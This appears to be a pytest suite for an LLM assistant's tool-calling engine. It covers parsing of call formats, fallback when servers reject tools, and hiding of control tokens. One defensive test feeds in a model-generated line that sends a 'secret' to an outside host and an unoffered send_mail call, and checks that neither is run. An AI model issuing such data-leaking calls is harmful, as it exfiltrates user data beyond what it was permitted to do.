"""The model calls tools, is told what they found, and answers."""

import asyncio
import json
from collections.abc import Callable, Mapping
from datetime import date
from typing import Any

import pytest

from assistant import engine
from assistant.engine import History, Means
from assistant.errors import AssistantError
from assistant.events import Event, SourcesFound, StepTaken, TextReplaced, TurnFinished, Waiting
from assistant.llama.client import LlamaClient
from assistant.llama.errors import EmptyAnswerError, LlamaServerError, RefusalError
from assistant.llama.messages import ChatMessage
from assistant.sources import Reading, Source, Step
from assistant.tools.base import BoundTool, Told, Work
from assistant.tools.calculate import calculate
from assistant.tools.schema import FunctionTool
from assistant.tools.web_search import web_search
from tests.fake_llama import DONE, Answer, FakeLlama, error_in_stream, event, fails, says, sends
from tests.turns import shown, words

NEWS = Reading(
    Source("https://news.example/a", "Llamas cross the Andes"), "A caravan of llamas crossed the Andes today."
)
OFFERED: list[FunctionTool[..., Any]] = [web_search, calculate]


class Tools:
    """Tools that note how they were called."""

    def __init__(self) -> None:
        self.calls: list[tuple[str, Mapping[str, Any]]] = []

    def bound(self) -> dict[str, BoundTool]:
        return {"web_search": self.search, "calculate": self.calculate}

    async def search(self, arguments: Mapping[str, Any]) -> Work:
        self.calls.append(("web_search", arguments))
        yield StepTaken(Step("web_search", arguments["query"]).to_json())
        yield NEWS
        yield Told("The pages that were read are quoted below.")

    async def calculate(self, arguments: Mapping[str, Any]) -> Work:
        self.calls.append(("calculate", arguments))
        yield Told(await calculate(**arguments))


async def answered(
    client: LlamaClient,
    tools: Mapping[str, BoundTool],
    question: str,
    search: str = "",
    aliases: Any = None,
    native: bool = False,
    into: list[Event] | None = None,
    native_failed: Callable[[], None] = lambda: None,
) -> list[Event]:
    means = Means(client, tools, OFFERED, aliases or {}, native, native_failed=native_failed)
    history = History([ChatMessage("user", question)], search=search)
    events = [] if into is None else into
    async for one in engine.answer(means, "Chaski", history, date(2026, 3, 2)):
        events.append(one)
    return events


def prompts(llama: FakeLlama) -> list[str]:
    """The last turn of each request."""
    return [request["messages"][-1]["content"] for request in llama.requests]


CALL = json.dumps({"name": "web_search", "parameters": {"query": "news today"}})
CALLS = [
    CALL,
    f"<|python_tag|>{CALL}<|eom_id|>",
    'brave_search.call(query="news today")',
    '<function=web_search>{"query": "news today"}</function>',
    '[web_search(query="news today")]',
    f"Let me look that up.\n\n{CALL}",
]


@pytest.mark.parametrize("call", CALLS, ids=["json", "python tag", "built-in", "function", "pythonic", "after words"])
@pytest.mark.parametrize("chunk", ["all", "char"])
async def test_what_the_model_wants_to_know_is_searched_and_answered(
    client: LlamaClient, fake_llama: FakeLlama, call: str, chunk: str
) -> None:
    fake_llama.script(says(call, chunk=chunk), says("Llamas crossed the Andes [1]."))
    tools = Tools()
    events = await answered(
        client, tools.bound(), "What happened in the world today?", aliases={"brave_search": "web_search"}
    )
    assert tools.calls == [("web_search", {"query": "news today"})]
    assert words(events) == "Llamas crossed the Andes [1]."
    assert "web_search" not in shown(events)
    assert "brave_search" not in shown(events)
    assert "A caravan of llamas crossed the Andes today." in prompts(fake_llama)[-1]
    [found] = [Source.from_json(one) for one in [e for e in events if isinstance(e, SourcesFound)][-1].sources]
    assert found.passage == "A caravan of llamas crossed the Andes today."
    assert isinstance(events[-1], TurnFinished)


async def test_a_calculation_is_done_exactly(client: LlamaClient, fake_llama: FakeLlama) -> None:
    fake_llama.script(
        says('{"name": "calculate", "parameters": {"expression": "9.11 or 9.9"}}'), says("9.9 is greater.")
    )
    tools = Tools()
    events = await answered(client, tools.bound(), "Which is greater, 9.11 or 9.9?")
    assert "9.9 is larger than 9.11" in prompts(fake_llama)[-1]
    assert words(events) == "9.9 is greater."


async def test_a_greeting_is_offered_no_tools(client: LlamaClient, fake_llama: FakeLlama) -> None:
    fake_llama.script(says("Hello!"))
    await answered(client, Tools().bound(), "hello")
    assert "web_search" not in prompts(fake_llama)[-1]


async def test_who_wants_no_search_gets_none_but_calculates(client: LlamaClient, fake_llama: FakeLlama) -> None:
    fake_llama.script(says("As far as I know."))
    await answered(client, Tools().bound(), "What happened today?", search="never")
    assert "web_search" not in prompts(fake_llama)[-1]
    assert "calculate" in prompts(fake_llama)[-1]


async def test_the_third_time_the_model_has_to_answer(client: LlamaClient, fake_llama: FakeLlama) -> None:
    fake_llama.script(says(CALL), says(CALL), says("This is what I found [1]."))
    tools = Tools()
    events = await answered(client, tools.bound(), "What happened today?")
    assert len(tools.calls) == 2
    assert len(fake_llama.requests) == 3
    assert "You have tools" not in json.dumps(fake_llama.requests[-1])
    assert words(events) == "This is what I found [1]."


@pytest.mark.parametrize(
    "bad",
    [
        '{"name": "send_mail", "parameters": {"to": "x"}}',
        '{"name": "web_search", "parameters": {"query": "news", ]}',
        '<function=web_search>{"query": }</function>',
        '<|python_tag|>import requests\nrequests.get("https://a.example/?q=secret")<|eom_id|>',
        '<|python_tag|>send_mail.call(to="x", body="secret")<|eom_id|>',
    ],
    ids=["unoffered", "broken", "broken function", "code", "unoffered built-in"],
)
async def test_a_call_that_cannot_be_run_is_neither_run_nor_shown(
    client: LlamaClient, fake_llama: FakeLlama, bad: str
) -> None:
    fake_llama.script(says(bad), says("I answer in words."))
    tools = Tools()
    events = await answered(client, tools.bound(), "What happened today?")
    assert tools.calls == []
    assert words(events) == "I answer in words."
    assert not any(word in shown(events) for word in ("{", "secret", "|>"))


@pytest.mark.parametrize("chunk", ["all", "char"])
async def test_a_result_that_the_model_made_up_behind_its_call_is_not_shown(
    client: LlamaClient, fake_llama: FakeLlama, chunk: str
) -> None:
    fake_llama.script(says(f"{CALL}<|eom_id|>A caravan is in Lima.", chunk=chunk), says("Llamas [1]."))
    tools = Tools()
    events = await answered(client, tools.bound(), "What happened today?")
    assert (len(tools.calls), words(events)) == (1, "Llamas [1].")
    assert "Lima" not in shown(events)


@pytest.mark.parametrize("question", ["hello", "What happened today?"])
@pytest.mark.parametrize("chunk", ["all", "char"])
async def test_a_mark_that_strayed_into_words_is_not_shown(
    client: LlamaClient, fake_llama: FakeLlama, question: str, chunk: str
) -> None:
    said = "I know it<|eom_id|>: `<|python_tag|>` begins <|python_tag|>a call.<|eom_id|>"
    fake_llama.script(says(said, chunk=chunk))
    events = await answered(client, Tools().bound(), question)
    assert words(events) == "I know it: `` begins a call."


async def test_marks_alone_are_no_answer(client: LlamaClient, fake_llama: FakeLlama) -> None:
    fake_llama.script(says("<|python_tag|>"))
    with pytest.raises(EmptyAnswerError):
        await answered(client, Tools().bound(), "What happened today?")


async def test_a_tool_that_fails_is_told_to_the_model(client: LlamaClient, fake_llama: FakeLlama) -> None:
    async def rests(arguments: Mapping[str, Any]) -> Work:
        yield StepTaken(Step("web_search", "news today", "search_failed").to_json())
        raise AssistantError("all engines rest")

    fake_llama.script(says(CALL), says("I could not look it up."))
    events = await answered(client, {"web_search": rests}, "What happened today?")
    assert "web_search failed" in prompts(fake_llama)[-1]
    assert words(events) == "I could not look it up."


async def test_two_calls_are_run_together(client: LlamaClient, fake_llama: FakeLlama) -> None:
    both = '{"name": "calculate", "parameters": {"expression": "2 + 2"}}; ' + CALL
    fake_llama.script(says(both), says("Four, and llamas [1]."))
    tools = Tools()
    await answered(client, tools.bound(), "What is 2 + 2, and the news?")
    assert sorted(name for name, _ in tools.calls) == ["calculate", "web_search"]


async def test_code_with_braces_is_an_answer(client: LlamaClient, fake_llama: FakeLlama) -> None:
    code = 'Here:\n\n```json\n{"name": "Alice", "age": 3}\n```\n\nAnd `x_{1}`.'
    fake_llama.script(says(code, chunk="char"))
    events = await answered(client, Tools().bound(), "Write me some JSON")
    assert words(events) == code
    assert not [event for event in events if isinstance(event, TextReplaced)]


async def test_a_model_that_calls_to_the_end_says_so_in_a_sentence_and_shows_no_call(
    client: LlamaClient, fake_llama: FakeLlama
) -> None:
    fake_llama.script(says(CALL), says(CALL), says(CALL))
    tools, events = Tools(), list[Event]()
    with pytest.raises(EmptyAnswerError):
        await answered(client, tools.bound(), "What happened today?", into=events)
    assert len(tools.calls) == 2
    assert "web_search" not in shown(events)


async def test_a_call_after_a_greeting_is_neither_run_nor_shown(client: LlamaClient, fake_llama: FakeLlama) -> None:
    fake_llama.script(says(CALL), says("Hello!"))
    tools = Tools()
    events = await answered(client, tools.bound(), "hello")
    assert tools.calls == []
    assert words(events) == "Hello!"
    assert "web_search" not in shown(events)
    assert "no tools" in prompts(fake_llama)[-1]


async def test_a_call_that_the_model_only_thought_of_is_not_run(client: LlamaClient, fake_llama: FakeLlama) -> None:
    fake_llama.script(says(f"I could call it:\n\n{CALL}\n</think>\n\nI know it by heart.", pace=0.02))
    tools = Tools()
    events = await answered(client, tools.bound(), "What happened today?")
    assert tools.calls == []
    assert words(events) == "I know it by heart."


async def test_a_person_who_stops_ends_the_tool_at_once(client: LlamaClient, fake_llama: FakeLlama) -> None:
    ended = asyncio.Event()

    async def waits(arguments: Mapping[str, Any]) -> Work:
        yield Waiting("searching", words=arguments["query"])
        try:
            await asyncio.Event().wait()
        finally:
            ended.set()

    async def answer() -> None:
        async for one in engine.answer(Means(client, {"web_search": waits}, OFFERED), "Chaski", history, None):
            if isinstance(one, Waiting) and one.reason == "searching":
                begun.set()

    fake_llama.script(says(CALL))
    history, begun = History([ChatMessage("user", "What happened today?")]), asyncio.Event()
    task = asyncio.create_task(answer())
    async with asyncio.timeout(10):
        await begun.wait()
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)
        await ended.wait()


# Servers that parse the calls themselves


def calls_natively(*deltas: dict[str, Any], reason: str = "tool_calls") -> Answer:
    """An answer of nothing but pieces of calls in their own field."""
    pieces = [event({"content": None, "tool_calls": [delta]}) for delta in deltas]
    return sends(*pieces, event({}, reason) + DONE)


async def test_calls_in_a_field_of_their_own_are_run(client: LlamaClient, fake_llama: FakeLlama) -> None:
    first = {"index": 0, "id": "c1", "function": {"name": "web_search", "arguments": ""}}
    more = [{"index": 0, "function": {"arguments": piece}} for piece in ('{"query": "ne', 'ws today"}')]
    fake_llama.script(calls_natively(first, *more), says("Llamas [1]."))
    tools = Tools()
    events = await answered(client, tools.bound(), "What happened today?", native=True)
    assert tools.calls == [("web_search", {"query": "news today"})]
    assert words(events) == "Llamas [1]."
    names = [one["function"]["name"] for one in fake_llama.requests[0]["tools"]]
    assert names == ["web_search", "calculate"]
    assert "You have tools" not in json.dumps(fake_llama.requests[0]["messages"])


async def test_a_call_that_the_server_left_in_the_text_is_run_too(client: LlamaClient, fake_llama: FakeLlama) -> None:
    fake_llama.script(says(CALL), says("Llamas [1]."))
    tools = Tools()
    events = await answered(client, tools.bound(), "What happened today?", native=True)
    assert tools.calls == [("web_search", {"query": "news today"})]
    assert words(events) == "Llamas [1]."


async def test_a_call_that_was_cut_at_the_limit_is_not_run(client: LlamaClient, fake_llama: FakeLlama) -> None:
    cut = {"index": 0, "id": "c1", "function": {"name": "web_search", "arguments": '{"query": "ne'}}
    fake_llama.script(calls_natively(cut, reason="length"), says("In words."))
    tools = Tools()
    events = await answered(client, tools.bound(), "What happened today?", native=True)
    assert tools.calls == []
    assert words(events) == "In words."


UNPARSED = {"error": {"code": 500, "message": "The model produced output that does not match the expected format"}}


@pytest.mark.parametrize(
    "failing",
    [
        error_in_stream("Use this: ", UNPARSED),
        fails(500, UNPARSED),
        fails(400, {"error": {"message": "llama3:latest does not support tools", "type": "api_error"}}),
        fails(400, {"object": "error", "message": '"auto" tool choice requires --enable-auto-tool-choice'}),
        fails(404, {"error": {"message": "No endpoints found that support tool use.", "code": 404}}),
        fails(400, {"error": {"code": "tool_use_failed", "failed_generation": "<function=web_search{}"}}),
        error_in_stream("", {"error": {"code": "tool_use_failed", "message": "Failed to call a function."}}),
        sends(event({"content": ""}), event({}, "stop") + DONE),
    ],
    ids=[
        "brace",
        "brace unstreamed",
        "no tools",
        "no parser",
        "no endpoint",
        "unread",
        "unread in stream",
        "thrown away",
    ],
)
async def test_where_the_server_fails_at_tools_they_are_told_in_words_and_the_person_gets_an_answer(
    client: LlamaClient, fake_llama: FakeLlama, failing: Answer
) -> None:
    fake_llama.script(failing, says(CALL), says("Llamas [1]."))
    tools, failed = Tools(), list[bool]()
    events = await answered(
        client, tools.bound(), "What happened today?", native=True, native_failed=lambda: failed.append(True)
    )
    assert tools.calls == [("web_search", {"query": "news today"})]
    assert words(events) == "Llamas [1]."
    assert ["tools" in request for request in fake_llama.requests] == [True, False, False]
    assert "You have tools" in fake_llama.requests[1]["messages"][-1]["content"]
    assert failed


async def test_a_greeting_is_answered_by_a_server_that_takes_no_tools(
    client: LlamaClient, fake_llama: FakeLlama
) -> None:
    fake_llama.script(fails(500, {"error": {"message": "tools param requires --jinja flag"}}), says("Hello!"))
    events = await answered(client, Tools().bound(), "hello", native=True)
    assert words(events) == "Hello!"


async def test_a_server_that_fails_either_way_is_not_blamed_for_its_tools(
    client: LlamaClient, fake_llama: FakeLlama
) -> None:
    fake_llama.script(fails(500), fails(500))
    failed: list[bool] = []
    with pytest.raises(LlamaServerError):
        await answered(client, {}, "What happened today?", native=True, native_failed=lambda: failed.append(True))
    assert (len(fake_llama.requests), failed) == (2, [])


async def test_what_a_filter_refused_is_not_asked_again(client: LlamaClient, fake_llama: FakeLlama) -> None:
    fake_llama.script(sends(event({}, "content_filter") + DONE))
    with pytest.raises(RefusalError):
        await answered(client, {}, "What happened today?", native=True)
    assert len(fake_llama.requests) == 1
